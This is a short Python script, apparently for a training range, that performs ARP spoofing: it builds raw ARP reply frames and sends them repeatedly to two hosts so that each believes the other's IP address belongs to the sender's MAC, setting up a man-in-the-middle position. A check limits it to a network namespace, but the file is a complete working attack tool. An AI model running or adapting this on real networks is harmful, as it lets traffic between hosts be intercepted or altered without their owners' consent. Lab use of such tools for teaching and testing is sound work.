#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""arp.py IFACE MY_MAC VICTIM_MAC VICTIM_IP OTHER_MAC OTHER_IP TIMES: unsolicited ARP replies, five
times a second, to two hosts: each is told that the other's address is at MY_MAC.

Only inside a network namespace of the range."""
import os
import socket
import subprocess
import sys
import time

if not subprocess.run(["ip", "netns", "identify", str(os.getpid())], capture_output=True, text=True).stdout.strip():
    sys.exit("not in a namespace of the range")
iface, me, mac_a, ip_a, mac_b, ip_b, times = sys.argv[1:8]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def reply(to_mac, to_ip, claimed_ip):
    s.send(mac(to_mac) + mac(me) + b"\x08\x06" + b"\x00\x01\x08\x00\x06\x04\x00\x02" + mac(me) +
           socket.inet_aton(claimed_ip) + mac(to_mac) + socket.inet_aton(to_ip))


for _ in range(int(times)):
    reply(mac_a, ip_a, ip_b)
    reply(mac_b, ip_b, ip_a)
    time.sleep(0.2)
